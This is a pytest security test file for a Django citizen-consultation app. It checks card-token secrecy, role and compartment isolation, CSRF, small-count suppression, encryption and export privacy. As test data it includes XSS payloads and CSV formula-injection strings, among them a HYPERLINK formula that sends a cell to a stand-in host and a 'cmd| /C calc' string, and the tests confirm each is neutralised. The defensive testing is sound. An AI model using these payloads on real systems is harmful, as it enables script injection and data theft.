"""Consultations attacked: a participant holding one card, someone holding none, each role of the
compartment, an owner of another compartment, a reader of the raw database without the key, and a reader
of the audit log and the server's logs. Each test asserts the safe behaviour."""

from __future__ import annotations

import csv
import io
import logging
import re
import zipfile
from datetime import timedelta

import pytest
from django.contrib.auth import get_user_model
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from multitrack.web.accounts.models import Membership
from multitrack.web.audit.models import AuditEvent
from multitrack.web.consultations.models import Consultation, Participant, Statement, Vote
from multitrack.web.consultations.services import actions
from tests import factories as f
from tests.conftest import client_with_role

pytestmark = pytest.mark.django_db

QUESTION = "Which crossing should reopen first?"
SEED = "Reopen the northern crossing"
SECRET_STATEMENT = "Colonel Examplename ordered the raid"


def consultation(compartment, **kw):
    values = {
        "title": "Crossings",
        "question": {"en": QUESTION, "fr": "Quel passage rouvrir d'abord ?"},
        "languages": ["en", "fr"],
        "moderation": "post",
        "demographics": ["gender", "age"],
    }
    values.update(kw)
    return Consultation.objects.create(initiative=f.initiative(compartment=compartment), **values)


def seed(c, n=1, text=SEED):
    return [actions.add_statement(c, {"en": f"{text} {i}"}, None) for i in range(n)]


def card(c, group=None):
    return actions.issue_cards(c, group, 1, None)[0].token


def joined(c, token, **answers):
    """A participant's client, started (consented) with `answers` to the optional questions."""
    client = Client()
    client.post(f"/c/{token}/start/", {"lang": "en", **{f"q_{k}": v for k, v in answers.items()}})
    return client


def participant(token):
    return actions.participant_for_token(token)


def member(role, compartment):
    """The user behind client_with_role(role, compartment)."""
    return get_user_model().objects.get(username=f"{role}-{compartment.pk}")


# (a) A participant holding one valid card


def test_a_card_votes_only_on_accepted_statements_of_its_own_consultation(compartment):
    c = consultation(compartment, moderation="pre")
    (accepted,) = seed(c)
    token = card(c)
    client = joined(c, token)
    client.post(f"/c/{token}/statement/", {"text": "Held for moderation"})
    pending = Statement.objects.get(consultation=c, status="pending")
    rejected = actions.add_statement(c, {"en": "Rejected later"}, None)
    actions.moderate(rejected, "rejected", None)
    other = consultation(compartment)
    foreign = seed(other, 6)[-1]  # number 5: no statement 5 in the card's own consultation
    nowhere = client.post(f"/c/{token}/vote/", {"statement": 10**6, "value": 1})
    for number in (pending.number, rejected.number, foreign.number, -1):
        response = client.post(f"/c/{token}/vote/", {"statement": number, "value": 1})
        assert response.status_code == 400 and response.content == nowhere.content, number  # existence untold
    assert not Vote.objects.exists()
    assert client.post(f"/c/{token}/vote/", {"statement": accepted.number, "value": 1}).status_code == 302
    assert list(Vote.objects.values_list("statement_id", flat=True)) == [accepted.pk]


@pytest.mark.parametrize("value", ["2", "-2", "1.0", "", "agree", "True", str(2**70), "1e0", "0x1"])
def test_only_agree_disagree_or_pass_are_taken(compartment, value):
    c = consultation(compartment)
    (s,) = seed(c)
    token = card(c)
    client = joined(c, token)
    assert client.post(f"/c/{token}/vote/", {"statement": s.number, "value": value}).status_code == 400
    assert not Vote.objects.exists()


def test_language_and_answers_stay_within_what_is_offered(compartment):
    c = consultation(compartment)
    seed(c)
    token = card(c)
    client = Client()
    client.post(
        f"/c/{token}/start/",
        {"lang": "de", "q_gender": "undisclosed", "q_age": "youth", "q_ethnicity": "X", "q_track": "1"},
    )
    p = participant(token)
    assert p.language == "en" and p.answers == {"age": "youth"}
    for lang in ("ar", "de", "<b>x</b>", "en-GB"):
        page = client.get(f"/c/{token}/?lang={lang}")
        assert page["Content-Language"] in c.languages and "<b>x</b>" not in page.content.decode()
    assert participant(token).language == "en"
    client.post(f"/c/{token}/start/", {"lang": "fr", "q_gender": "<script>alert(1)</script>"})
    p = participant(token)
    assert p.language == "fr" and p.answers == {}


def test_a_revoked_card_can_do_nothing_and_looks_like_an_unknown_one(auth_client, compartment):
    c = consultation(compartment)
    (s,) = seed(c)
    token = card(c)
    client = joined(c, token, gender="woman")
    client.post(f"/c/{token}/vote/", {"statement": s.number, "value": 1})
    auth_client.post(f"/consultations/{c.pk}/cards/revoke/", {"number": participant(token).number})
    p = Participant.objects.get(consultation=c)
    unknown = "A" * 22
    for path, method, data in (
        ("", "get", None), ("votes/", "get", None), ("start/", "post", {"lang": "fr", "q_gender": "man"}),
        ("vote/", "post", {"statement": s.number, "value": -1}), ("statement/", "post", {"text": "More"}),
        ("withdraw/", "post", {}),
    ):  # fmt: skip
        revoked = getattr(Client(), method)(f"/c/{token}/{path}", data)
        never = getattr(Client(), method)(f"/c/{unknown}/{path}", data)
        assert revoked.status_code == never.status_code == 404, path
        assert revoked.content == never.content, path
    with CaptureQueriesContext(connection) as revoked_queries:
        Client().get(f"/c/{token}/")
    with CaptureQueriesContext(connection) as unknown_queries:
        Client().get(f"/c/{unknown}/")
    assert len(revoked_queries) == len(unknown_queries)  # the same work: nothing to time
    p.refresh_from_db()
    assert p.answers == {"gender": "woman"} and p.language == "en" and p.withdrawn_at is None
    assert list(Vote.objects.values_list("value", flat=True)) == [1]  # the votes cast stay
    assert Statement.objects.filter(consultation=c).count() == 1


# (b) Someone holding no card


def test_a_token_is_not_a_ref_a_number_or_a_hash(compartment):
    """What staff or a database reader may know of a card (its number, the participant's random id, the
    stored hash) does not open it; only the 128-bit token does."""
    c = consultation(compartment)
    seed(c)
    tokens = [c.token for c in actions.issue_cards(c, None, 20, None)]
    assert len(set(tokens)) == 20
    assert all(re.fullmatch(r"[A-Za-z0-9_-]{22,}", t) for t in tokens)  # >= 128 bits, url-safe
    p = participant(tokens[0])
    for guess in (str(p.number), p.ref, p.token_hash, tokens[0].upper(), tokens[0][:-1], " " + tokens[0]):
        assert Client().get(f"/c/{guess}/").status_code == 404, guess
    assert Client().get(f"/c/{'x' * 5000}/").status_code == 404


# (a) again: what one card can do to others


def test_withdrawing_removes_only_the_card_s_own_votes(compartment):
    c = consultation(compartment)
    (s,) = seed(c)
    mine, theirs = card(c), card(c)
    me, them = joined(c, mine, gender="man"), joined(c, theirs, gender="woman")
    me.post(f"/c/{mine}/vote/", {"statement": s.number, "value": 1})
    them.post(f"/c/{theirs}/vote/", {"statement": s.number, "value": -1})
    them.post(f"/c/{theirs}/statement/", {"text": "Their own idea"})
    me.post(f"/c/{mine}/withdraw/")
    other = participant(theirs)
    assert list(Vote.objects.values_list("participant_id", "value")) == [(other.pk, -1)]
    assert other.answers == {"gender": "woman"} and other.consented
    assert Statement.objects.get(texts__isnull=False, author=other)


def test_a_participant_learns_nothing_of_other_participants(compartment):
    c = consultation(compartment)
    (s,) = seed(c)
    mine, theirs = card(c), card(c)
    them = joined(c, theirs, gender="woman")
    them.post(f"/c/{theirs}/vote/", {"statement": s.number, "value": -1})
    c.moderation = "pre"
    c.save()
    them.post(f"/c/{theirs}/statement/", {"text": "Waiting for the facilitator"})
    me = joined(c, mine)
    me.post(f"/c/{mine}/vote/", {"statement": s.number, "value": 1})
    pages = [me.get(f"/c/{mine}/").content.decode(), me.get(f"/c/{mine}/votes/").content.decode()]
    pages.append(me.post(f"/c/{mine}/vote/", {"statement": 99, "value": 1}).content.decode())
    others = participant(theirs)
    for page in pages:
        assert others.ref not in page and participant(mine).ref not in page
        assert "Waiting for the facilitator" not in page
        assert theirs not in page
        assert "Disagree</strong>" not in page  # only my own vote (agree) is listed
    votes_page = pages[1]
    assert votes_page.count("<li>") == 1 and "Agree</strong>" in votes_page


def test_participant_responses_set_no_cookie_leak_no_referrer_and_load_nothing_external(compartment):
    c = consultation(compartment)
    (s,) = seed(c)
    token = card(c)
    client = Client()
    responses = [
        client.get(f"/c/{token}/"),
        client.post(f"/c/{token}/start/", {"lang": "en"}),
        client.get(f"/c/{token}/"),
        client.post(f"/c/{token}/vote/", {"statement": s.number, "value": 7}),  # 400
        client.post(f"/c/{token}/statement/", {"text": "y" * 300}),  # 400
        client.get(f"/c/{token}/votes/"),
        client.get("/c/unknown-token-here/"),
        client.post(f"/c/{token}/withdraw/"),
    ]
    for response in responses:
        assert not response.cookies, response.cookies  # no session, no CSRF cookie, nothing to track
        assert "session" not in response.get("Set-Cookie", "")
        csp = response["Content-Security-Policy"]
        assert "default-src 'self'" in csp and "script-src 'self'" in csp and "http" not in csp
        if response.status_code != 302:
            html = response.content.decode()
            assert response["Referrer-Policy"] == "no-referrer" and response["Cache-Control"] == "no-store"
            assert not re.search(r"""(?:src|href|action)=["']?(?:https?:)?//""", html), html
            assert "<script>" not in html and not re.search(r"\son[a-z]+=", html)  # no inline script
    assert not client.session.keys()


def test_one_card_is_one_voice_however_often_it_votes(compartment):
    c = consultation(compartment)
    (s,) = seed(c)
    token = card(c)
    client = joined(c, token)
    for value in (1, 1, 1, -1, 1, 1):
        client.post(f"/c/{token}/vote/", {"statement": s.number, "value": value})
    analyst = client_with_role("analyst", compartment)
    (row,) = analyst.get(f"/api/consultations/{c.pk}/statements").json()
    assert (row["agree"], row["disagree"], row["passes"]) == (1, 0, 0)


def test_withdrawing_does_not_reset_the_rate_limits(compartment, monkeypatch):
    monkeypatch.setattr(actions, "STATEMENTS_PER_HOUR", 2)
    monkeypatch.setattr(actions, "VOTES_PER_MINUTE", 2)
    c = consultation(compartment, moderation="pre")
    (s,) = seed(c)
    token = card(c)
    client = joined(c, token)
    codes = [client.post(f"/c/{token}/statement/", {"text": f"Idea {i}"}).status_code for i in range(3)]
    codes += [
        client.post(f"/c/{token}/vote/", {"statement": s.number, "value": 1}).status_code for _ in range(3)
    ]
    assert codes == [302, 302, 429, 302, 302, 429]
    for round_ in range(3):  # flood the moderation queue: withdraw, start again, post again
        client.post(f"/c/{token}/withdraw/")
        client.post(f"/c/{token}/start/", {"lang": "en"})
        client.post(f"/c/{token}/statement/", {"text": f"Flood {round_}"})
        client.post(f"/c/{token}/vote/", {"statement": s.number, "value": 1})
    assert Statement.objects.filter(consultation=c, seed=False).count() == 2
    assert client.post(f"/c/{token}/statement/", {"text": "Once more"}).status_code == 429


# (f) Readers of the server's logs and of the audit log


def test_a_working_token_never_reaches_the_server_log(compartment, caplog, monkeypatch):
    monkeypatch.setattr(actions, "VOTES_PER_MINUTE", 1)
    c = consultation(compartment)
    (s,) = seed(c)
    token = card(c)
    client = joined(c, token)
    with caplog.at_level(logging.DEBUG):
        client.post(f"/c/{token}/vote/", {"statement": s.number, "value": 5})  # 400
        client.post(f"/c/{token}/statement/", {"text": ""})  # 400
        client.post(f"/c/{token}/vote/", {"statement": s.number, "value": 1})
        assert client.post(f"/c/{token}/vote/", {"statement": s.number, "value": 1}).status_code == 429
        Consultation.objects.filter(pk=c.pk).update(closes_at=timezone.now() - timedelta(minutes=1))
        assert client.post(f"/c/{token}/vote/", {"statement": s.number, "value": 1}).status_code == 409
    logged = "\n".join(r.getMessage() for r in caplog.records)
    assert token not in logged, logged


# (c) Staff of the same compartment


def test_staff_forms_refuse_a_cross_site_post_without_the_csrf_token(user, compartment):
    c = consultation(compartment)
    (s,) = seed(c)
    token = card(c)
    group = actions.groups_from_lines(c, ["youth"])[0]
    joined(c, token).post(f"/c/{token}/statement/", {"text": "Pending one"})
    Statement.objects.filter(seed=False).update(status="pending")
    forger = Client(enforce_csrf_checks=True)
    forger.force_login(user)
    before = (Participant.objects.count(), list(Statement.objects.values_list("status", "texts")))
    for path, data in (
        (f"/consultations/{c.pk}/cards/", {"group": group.pk, "count": 5}),
        (f"/consultations/{c.pk}/cards/revoke/", {"number": 1}),
        (f"/consultations/{c.pk}/statements/", {"text_en": "Forged seed"}),
        (f"/consultations/{c.pk}/statements/1/moderate/", {"status": "accepted"}),
        (f"/consultations/{c.pk}/statements/{s.number}/", {"text_en": "Forged", "status": "rejected"}),
        (f"/consultations/{c.pk}/report/publish/", {}),
        (f"/consultations/{c.pk}/edit/", {"title": "Forged", "initiative": c.initiative_id}),
        ("/consultations/new/", {"title": "Forged", "initiative": c.initiative_id}),
    ):
        assert forger.post(path, data).status_code == 403, path
    assert (Participant.objects.count(), list(Statement.objects.values_list("status", "texts"))) == before
    assert Participant.objects.get().revoked_at is None
    c.refresh_from_db()
    assert c.title == "Crossings" and c.report_id is None and Consultation.objects.count() == 1


def test_cards_are_issued_only_for_the_consultation_s_own_groups(auth_client, compartment):
    c = consultation(compartment)
    other = consultation(compartment)
    foreign = actions.groups_from_lines(other, ["elders"])[0]
    response = auth_client.post(f"/consultations/{c.pk}/cards/", {"group": foreign.pk, "count": 2})
    assert response.status_code == 302 and not Participant.objects.exists()
    for count in (0, -1, actions.MAX_CARDS + 1, "1e3"):
        auth_client.post(f"/consultations/{c.pk}/cards/", {"count": count})
    assert not Participant.objects.exists()


def test_a_consultation_is_created_or_moved_only_under_initiatives_one_may_write(compartment):
    mine = f.initiative(compartment=compartment)
    elsewhere = f.compartment(name="Read-only elsewhere")
    theirs = f.initiative(compartment=elsewhere)
    editor = client_with_role("editor", compartment)
    Membership.objects.create(user=member("editor", compartment), compartment=elsewhere, role="analyst")
    form = {"title": "T", "languages": ["en"], "question_en": "Q?", "moderation": "pre"}
    assert editor.post("/consultations/new/", {**form, "initiative": theirs.pk}).status_code == 200
    assert not Consultation.objects.exists()
    editor.post("/consultations/new/", {**form, "initiative": mine.pk})
    c = Consultation.objects.get()
    assert editor.post(f"/consultations/{c.pk}/edit/", {**form, "initiative": theirs.pk}).status_code == 200
    c.refresh_from_db()
    assert c.initiative_id == mine.pk and c.compartment_id == compartment.pk


def test_staff_actions_name_only_their_own_consultation(auth_client, compartment):
    """Statement numbers and card numbers are looked up within the consultation in the address."""
    c = consultation(compartment)
    other = consultation(compartment)
    (s,) = seed(other)
    token = card(other)
    actions.moderate(s, "accepted", None)
    auth_client.post(f"/consultations/{c.pk}/statements/{s.number}/moderate/", {"status": "rejected"})
    auth_client.post(f"/consultations/{c.pk}/cards/revoke/", {"number": participant(token).number})
    s.refresh_from_db()
    assert s.status == "accepted" and participant(token) is not None
    assert auth_client.get(f"/consultations/{c.pk}/statements/{s.number}/").status_code == 404


def voters(c, answers, statements, value=1):
    """Participants with cards who answered `answers` (one dict each) and voted on every statement."""
    people = []
    for given in answers:
        p = participant(card(c))
        actions.start(p, "en", given)
        for s in statements:
            actions.cast_vote(p, s.number, value)
        people.append(p)
    return people


def test_funders_see_consultation_answers_in_inclusion_analytics_only_suppressed(compartment):
    c = consultation(compartment)
    statements = seed(c, 2)
    voters(c, [{"gender": "woman"}] * 2 + [{"gender": "man"}] + [{}] * 12, statements)
    funder = client_with_role("funder", compartment)
    query = f"rows=gender&column=role&initiative={c.initiative_id}"
    data = funder.get(f"/api/inclusion/table?{query}").json()
    assert data["suppressed"] is True
    column = data["column_labels"].index("consultation_participant")
    cells = {label: row[column] for label, row in zip(data["row_labels"], data["cells"], strict=True)}
    assert cells["woman"] is None and cells["man"] is None and cells["not recorded"] == 12
    assert funder.get(f"/api/inclusion/table?{query}&raw=true").status_code == 403
    csv_text = funder.get(f"/inclusion/export.csv?{query}").content.decode()
    page = funder.get(f"/inclusion/?{query}").content.decode()
    for text in (csv_text, page):
        assert "suppressed" in text
        assert not re.search(r"(?:^|,|<td[^>]*>)\s*[1-4]\s*(?:$|,|</td>)", text.split("# ")[0], re.M), text


def test_readers_of_rows_get_consultation_answers_only_suppressed(compartment):
    c = consultation(compartment)
    statements = seed(c, 2)
    author, *_rest = voters(c, [{"gender": "woman", "age": "youth"}] + [{}] * 12, statements)
    Statement.objects.create(
        consultation=c, number=50, texts={"en": SECRET_STATEMENT}, language="en", author=author,
        status="accepted",
    )  # fmt: skip
    analyst = client_with_role("analyst", compartment)
    detail = analyst.get(f"/consultations/{c.pk}/").content.decode()
    assert author.ref in detail and SECRET_STATEMENT in detail  # who wrote what, by random id
    query = f"rows=gender&rows=age&column=role_group&role_group=influence&initiative={c.initiative_id}"
    for raw in ("true", "false"):
        data = analyst.get(f"/api/inclusion/table?{query}&raw={raw}").json()
        shown = {n for row in data["cells"] for n in row if n is not None}
        assert not shown & {1, 2, 3, 4}, data["row_labels"]  # raw=true: [["woman × youth"]] -> [[1]]
    page = analyst.get(f"/inclusion/?{query}").content.decode()
    assert not re.search(r"<td[^>]*>\s*1\s*</td>", page)


W, M = {"gender": "woman", "age": "elder"}, {"gender": "man", "age": "youth"}


@pytest.mark.parametrize(
    "camps", [([W, W], [M]), ([W] * 4, [M] * 3), ([W] * 6, [M] * 3), ([W] * 6 + [M] * 2, [M] * 6)]
)
def test_no_opinion_group_or_demographic_count_below_the_threshold_is_shown(compartment, camps):
    """Two opinion camps, with groups or answers smaller than MULTITRACK_MIN_CELL (5): the analysis page,
    the report page, the API and the published document show no group and no answer count below 5."""
    from multitrack.web.consultations.report import as_json, build

    c = consultation(compartment)
    statements = seed(c, 8)
    voters(c, camps[0], statements, value=1)
    voters(c, camps[1], statements, value=-1)
    report = build(c)
    assert all(g.size >= 5 for g in report.groups), [g.size for g in report.groups]
    for _label, table in report.demographics:
        assert not {n for row in table.cells for n in row if n is not None} & {1, 2, 3, 4}
    analyst = client_with_role("analyst", compartment)
    data = analyst.get(f"/api/consultations/{c.pk}/analysis").json()
    assert all(g["size"] >= 5 for g in data["groups"])
    assert data == as_json(report)
    owner = client_with_role("owner", compartment)
    owner.post(f"/consultations/{c.pk}/report/publish/")
    c.refresh_from_db()
    document = c.report.text
    assert re.findall(r"\((\d+) participants\)", document) == [str(g.size) for g in report.groups]
    total = len(camps[0]) + len(camps[1])
    if total < 5:
        assert "Participants: fewer than 5." in document and f"Participants: {total}." not in document
    for url in ("analysis/", "report/"):
        html = analyst.get(f"/consultations/{c.pk}/{url}").content.decode()
        for label in re.findall(r"Group [A-E] \((\d+)\)", html):
            assert int(label) >= 5
        for table in re.findall(r"<table.*?</table>", html, flags=re.S):
            if "Woman" in table or "took part" in table:
                assert not re.search(r"<td[^>]*>\s*[1-4]\s*</td>", table), table


def test_funders_see_participant_counts_only_suppressed_and_no_words(compartment):
    c = consultation(compartment)
    statements = seed(c, 1)
    voters(c, [{"gender": "woman"}] * 3, statements)
    funder = client_with_role("funder", compartment)
    pages = [
        funder.get("/consultations/").content.decode(),
        funder.get(f"/consultations/{c.pk}/").content.decode(),
    ]
    for page in pages:
        assert "fewer than 5" in page and re.search(r">\s*3\s*<|\b3 took part", page) is None
    assert funder.get(f"/api/consultations/{c.pk}").json()["participants"] == "fewer than 5"
    assert funder.get("/api/consultations").json()["items"][0]["participants"] == "fewer than 5"
    response = funder.get(f"/api/consultations/{c.pk}/statements")
    assert response.status_code == 403 and SEED not in response.content.decode()
    owner = client_with_role("owner", compartment)
    owner.post(f"/consultations/{c.pk}/report/publish/")
    c.refresh_from_db()
    assert funder.get(f"/documents/{c.report_id}/").status_code == 404  # the report holds their words
    assert funder.get(f"/api/documents/{c.report_id}").status_code == 404
    assert SEED not in funder.get("/documents/").content.decode()


XSS = '</script><script>alert(1)</script><img src=x onerror="alert(2)">'


def test_participants_words_are_escaped_on_every_page(compartment):
    c = consultation(compartment, title=f"T {XSS}"[:200])
    c.question = {"en": f"Q {XSS}", "fr": "Q ?"}
    c.save()
    group = actions.groups_from_lines(c, [f"G {XSS}"[:120]])[0]
    statements = seed(c, 7)
    token = actions.issue_cards(c, group, 1, None)[0].token
    client = joined(c, token)
    assert client.post(f"/c/{token}/statement/", {"text": f"S {XSS}"}).status_code == 302
    mine = Statement.objects.get(consultation=c, seed=False)
    for s in [*statements, mine]:
        client.post(f"/c/{token}/vote/", {"statement": s.number, "value": 1})
    voters(c, [{}] * 6, [*statements, mine], value=1)
    owner = client_with_role("owner", compartment)
    owner.post(f"/consultations/{c.pk}/report/publish/")
    c.refresh_from_db()
    pages = {
        url: owner.get(url).content.decode()
        for url in (
            "/consultations/", f"/consultations/{c.pk}/", f"/consultations/{c.pk}/analysis/",
            f"/consultations/{c.pk}/report/", f"/consultations/{c.pk}/statements/{mine.number}/",
            f"/consultations/{c.pk}/edit/", f"/documents/{c.report_id}/", f"/c/{token}/votes/",
        )
    }  # fmt: skip
    pages["card"] = owner.post(
        f"/consultations/{c.pk}/cards/", {"group": group.pk, "count": 1}
    ).content.decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in pages[f"/consultations/{c.pk}/"]
    for url, html in pages.items():
        assert "<script>alert(1)" not in html and "onerror=" not in html.replace("onerror=&quot;", ""), url
        spec = re.search(r'<script id="opinion-spec" type="application/json">(.*?)</script>', html, re.S)
        if spec:
            assert "alert" not in spec.group(1)  # the map carries no words at all


def test_a_published_report_stays_in_the_consultation_s_compartment(compartment):
    c = consultation(compartment)
    seed(c, 1)
    b = f.compartment(name="B")
    both = client_with_role("owner", compartment)
    Membership.objects.create(user=member("owner", compartment), compartment=b, role="owner")
    both.post(f"/consultations/{c.pk}/report/publish/")
    c.refresh_from_db()
    first = c.report
    moved_to = f.initiative(compartment=b)
    form = {"initiative": moved_to.pk, "title": c.title, "languages": ["en", "fr"], "moderation": "post",
            "question_en": SECRET_STATEMENT, "question_fr": "Q ?", "allow_statements": "on"}  # fmt: skip
    assert both.post(f"/consultations/{c.pk}/edit/", form).status_code == 302
    client_with_role("editor", b).post(f"/consultations/{c.pk}/report/publish/")  # knows nothing of A
    c.refresh_from_db()
    assert c.compartment_id == b.pk and c.report.compartment_id == b.pk
    a_analyst = client_with_role("analyst", compartment)  # no access to B
    assert a_analyst.get(f"/consultations/{c.pk}/").status_code == 404
    assert SECRET_STATEMENT not in a_analyst.get(f"/documents/{first.pk}/").content.decode()


# (e) A reader of the raw database without the key, and (f) of the audit log


def dump(*, leave_out=()):
    rows = []
    with connection.cursor() as cursor:
        for table in connection.introspection.table_names():
            if table not in leave_out:
                cursor.execute(f'SELECT * FROM "{table}"')
                rows.append(f"{table}: {cursor.fetchall()!r}")
    return "\n".join(rows)


def test_words_answers_and_tokens_are_neither_in_clear_nor_in_the_audit_log(auth_client, compartment):
    from multitrack.web.inclusion.models import PersonAttribute

    PersonAttribute.objects.create(code="displacement", label="Displacement", values=["returnee-xq"])
    initiative = f.initiative(compartment=compartment)
    auth_client.post(
        "/consultations/new/",
        {"initiative": initiative.pk, "title": "Crossings", "languages": ["en", "fr"],
         "question_en": QUESTION, "question_fr": "Quel passage rouvrir ?", "moderation": "pre",
         "allow_statements": "on", "demographics": ["gender", "displacement"], "groups": "youth"},
    )  # fmt: skip
    c = Consultation.objects.get()
    auth_client.post(f"/consultations/{c.pk}/statements/", {"text_en": SEED, "text_fr": "Rouvrir le nord"})
    html = auth_client.post(f"/consultations/{c.pk}/cards/", {"count": 8}).content.decode()
    tokens = sorted(set(re.findall(r"/c/([A-Za-z0-9_-]{20,})/", html)))
    assert len(tokens) == 8
    for i, token in enumerate(tokens):
        client = joined(c, token, gender="non_binary", displacement="returnee-xq")
        client.post(f"/c/{token}/vote/", {"statement": 0, "value": 1})
        if i == 0:
            client.post(f"/c/{token}/statement/", {"text": SECRET_STATEMENT})
    auth_client.post(
        f"/consultations/{c.pk}/statements/1/",
        {"text_en": SECRET_STATEMENT, "text_fr": "Le colonel Examplename", "status": "accepted"},
    )
    for token in tokens:
        Client().post(f"/c/{token}/vote/", {"statement": 1, "value": -1})
    auth_client.post(f"/consultations/{c.pk}/report/publish/")
    auth_client.get(f"/consultations/{c.pk}/export.zip")
    auth_client.post(f"/consultations/{c.pk}/cards/revoke/", {"number": 3})
    Client().post(f"/c/{tokens[1]}/withdraw/")
    c.refresh_from_db()
    assert QUESTION in c.report.text  # the published document holds the words, encrypted too
    refs = list(Participant.objects.values_list("ref", flat=True))
    words = (
        QUESTION,
        "Quel passage rouvrir",
        SEED,
        "Rouvrir le nord",
        SECRET_STATEMENT,
        "Le colonel Examplename",
    )
    raw = dump(leave_out=("inclusion_personattribute",))
    for secret in (*words, *tokens, "non_binary", "returnee-xq"):
        assert secret not in raw, secret
    summaries = "\n".join(AuditEvent.objects.values_list("summary", flat=True))
    assert "3 revoked" in summaries or "card 3 revoked" in summaries
    for secret in (*words, *tokens, *refs, "non_binary", "returnee-xq", "youth"):
        assert secret not in summaries, secret
    assert not AuditEvent.objects.filter(object_type__in=["consultations.vote", "consultations.participant"])


def test_the_compartment_s_owner_sees_every_staff_action_on_statements_in_the_audit_log(compartment):
    c = consultation(compartment, moderation="pre")
    token = card(c)
    joined(c, token).post(f"/c/{token}/statement/", {"text": "Wait for me"})
    editor = client_with_role("editor", compartment)
    editor.post(f"/consultations/{c.pk}/statements/", {"text_en": "A seed", "text_fr": "Une graine"})
    editor.post(f"/consultations/{c.pk}/statements/0/moderate/", {"status": "rejected"})
    editor.post(f"/consultations/{c.pk}/edit/", {
        "initiative": c.initiative_id, "title": c.title, "languages": ["en", "fr"], "moderation": "pre",
        "question_en": QUESTION, "question_fr": "Q ?", "groups": "youth",
    })  # fmt: skip
    staff = AuditEvent.objects.filter(
        object_type__in=["consultations.statement", "consultations.participantgroup"]
    ).exclude(user=None)
    assert staff.count() == 3
    assert set(staff.values_list("compartment_id", flat=True)) == {compartment.pk}
    owner = client_with_role("owner", compartment)
    listed = owner.get("/audit/").content.decode()
    assert listed.count("consultations.statement") >= 2 and "consultations.participantgroup" in listed


def export_files(client, c):
    response = client.get(f"/consultations/{c.pk}/export.zip")
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    return {name: archive.read(name).decode() for name in archive.namelist()}


def test_the_export_carries_no_token_ref_or_answer(compartment):
    c = consultation(compartment)
    statements = seed(c, 2)
    tokens = [card.token for card in actions.issue_cards(c, None, 3, None)]
    for token in tokens:
        client = joined(c, token, gender="non_binary", age="elder")
        for s in statements:
            client.post(f"/c/{token}/vote/", {"statement": s.number, "value": 1})
    files = export_files(client_with_role("editor", compartment), c)
    text = "\n".join(files.values())
    for secret in (*tokens, *Participant.objects.values_list("ref", flat=True), "non_binary", "elder"):
        assert secret not in text, secret
    for role in ("analyst", "funder"):
        assert client_with_role(role, compartment).get(f"/consultations/{c.pk}/export.zip").status_code == 403


def test_the_export_does_not_number_participants_by_card(compartment):
    c = consultation(compartment)
    (s,) = seed(c)
    tokens = [card.token for card in actions.issue_cards(c, None, 3, None)]
    for token, value in ((tokens[2], -1), (tokens[0], 1), (tokens[1], 0)):  # card 3 joins first
        joined(c, token).post(f"/c/{token}/vote/", {"statement": s.number, "value": value})
    votes = export_files(client_with_role("owner", compartment), c)["votes.csv"]
    in_order_cast = [row["voter-id"] for row in csv.DictReader(io.StringIO(votes))]
    assert in_order_cast == ["0", "1", "2"]  # the first to join is 0, whichever card they hold


def test_a_participant_cannot_plant_a_spreadsheet_formula_in_the_export(compartment):
    c = consultation(compartment)
    token = card(c)
    client = joined(c, token)
    formulas = ['=HYPERLINK("https://x.example/?"&H3,"read more")', "@SUM(1+1)*cmd|' /C calc'!A0"]
    for text in formulas:
        assert client.post(f"/c/{token}/statement/", {"text": text}).status_code == 302
    comments = export_files(client_with_role("owner", compartment), c)["comments.csv"]
    bodies = [row["comment-body"] for row in csv.DictReader(io.StringIO(comments))]
    assert len(bodies) == 2 and not any(b.startswith(("=", "+", "-", "@")) for b in bodies), bodies


# (d) An owner of another compartment


def test_an_outcome_cites_only_consultations_its_author_may_read(compartment):
    from multitrack.web.evaluation.models import Outcome

    funded = f.compartment(name="Funded only")
    foreign = f.compartment(name="Foreign")
    mine = consultation(compartment)
    seen_as_funder = consultation(funded, title="Funded consultation")
    unseen = consultation(foreign, title="Foreign consultation")
    owner = client_with_role("owner", compartment)
    Membership.objects.create(user=member("owner", compartment), compartment=funded, role="funder")
    form = {"initiative": mine.initiative_id, "title": "Road reopened", "description": "It reopened.",
            "observed_on": "2021-06-01", "contribution": "Common ground.", "positive": "on"}  # fmt: skip
    for other in (seen_as_funder, unseen):
        response = owner.post("/evaluation/outcomes/new/", {**form, "consultations": [mine.pk, other.pk]})
        assert response.status_code == 200 and "Select a valid choice" in response.content.decode()
    assert not Outcome.objects.exists()
    assert owner.post("/evaluation/outcomes/new/", {**form, "consultations": [mine.pk]}).status_code == 302
    outcome = Outcome.objects.get()
    edit = owner.get(f"/evaluation/outcomes/{outcome.pk}/edit/").content.decode()
    assert "Funded consultation" not in edit and "Foreign consultation" not in edit
